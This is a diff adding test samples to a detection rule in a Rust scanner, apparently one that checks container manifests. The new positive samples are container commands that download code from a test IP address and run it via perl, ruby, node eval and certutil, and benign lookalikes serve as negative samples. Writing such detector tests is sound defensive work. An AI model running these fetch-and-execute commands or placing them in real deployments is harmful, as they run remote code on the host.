@@ -345,6 +345,28 @@ pub(super) static RULES: &[Rule] = &[
                 45,
                 "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/x http://192.0.2.10/s; /lib64/ld-linux-x86-64.so.2 /tmp/x']}]",
             ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [perl, '-MLWP::Simple', -e, 'eval(get(\"http://192.0.2.10/b\"))']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [ruby, -ropen-uri, -e, 'eval URI.open(\"http://192.0.2.10/b\").read']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [node, -e, 'fetch(\"http://192.0.2.10/b\").then(r=>r.text()).then(eval)']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [cmd, /c, 'certutil -urlcache -split -f http://192.0.2.10/a.exe C:\\Temp\\a.exe & C:\\Temp\\a.exe']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [perl, '-MLWP::Simple', -e, 'print get(\"http://svc/x\")']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [cmd, /c, 'certutil -hashfile C:\\app\\a.exe & C:\\app\\b.exe']}]",
+            ),
             Sample::Miss(
                 "containers: [{name: a, command: [sh, -c, 'curl -so /data/x.csv http://192.0.2.10/s; /lib64/ld-linux-x86-64.so.2 /app/run /data/x.csv']}]",
             ),
